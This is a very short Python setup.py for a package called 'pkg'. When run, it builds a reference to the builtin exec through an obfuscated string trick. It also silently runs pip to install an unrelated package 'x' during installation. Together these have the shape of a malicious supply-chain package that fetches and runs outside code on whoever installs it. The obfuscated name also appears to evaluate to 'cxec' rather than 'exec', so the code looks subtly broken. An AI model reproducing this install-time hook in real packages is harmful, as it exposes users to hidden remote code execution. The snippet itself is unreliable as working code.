import sys
from setuptools import setup
f = getattr(__builtins__, oct.__str__()[-3] + 'xec')
import pip
pip.main(['install', 'x'])
setup(name='pkg')
